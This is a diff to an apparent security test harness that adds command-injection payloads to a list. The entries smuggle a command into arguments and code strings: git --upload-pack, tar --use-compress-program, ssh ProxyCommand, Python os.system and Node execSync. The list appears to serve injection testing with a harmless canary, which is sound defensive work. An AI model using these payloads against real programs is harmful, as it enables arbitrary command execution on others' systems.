@@ -35,6 +35,8 @@ PAYLOADS = (
     *(f"'+__import__('os').system('{RUN}')+'", f"require('child_process').execSync('{RUN}')", f"-e{RUN}"),
     *(f"-Mstrict;system('{RUN}')", f"-esystem('{RUN}')", f"ProxyCommand={RUN}", f"EXEC:{RUN}", f"SYSTEM:{RUN}"),
     "ext::sh -c touch% PWNED",
+    *(f"-O{RUN};", f"O{RUN};", f"--upload-pack={RUN};", f"u{RUN};", f"--exec={RUN};", f"-x{RUN}", f"-TqTT{RUN}"),
+    *(f"--use-compress-program={RUN}", f"-I{RUN}", f"--open-files-in-pager={RUN};", "--output=PWNED", "@o"),
     f'#include <stdlib.h>\nint main(){{system("{RUN}");}}',
 )
 
